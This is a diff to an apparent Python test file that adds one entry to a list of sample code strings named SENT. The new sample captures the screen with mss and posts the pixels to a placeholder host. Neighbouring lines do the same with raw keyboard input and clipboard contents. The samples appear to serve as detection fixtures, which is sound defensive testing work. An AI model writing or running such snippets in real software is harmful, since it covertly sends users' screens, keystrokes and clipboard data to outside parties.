@@ -40,6 +40,10 @@ SENT = [
         "a.py",
         "import requests\nf = open('/dev/input/event0', 'rb')\nrequests.post('https://c.invalid', data=f.read(24))",
     ),
+    (
+        "a.py",
+        "from mss import mss\nimport requests\nwith mss() as s:\n    g = s.grab(0)\nrequests.post('https://c.invalid', data=g.rgb)",
+    ),
     ("a.py", "import pyperclip, requests\ntext = pyperclip.paste()\nrequests.post('https://c.invalid', data=text)"),
     (
         "a.py",
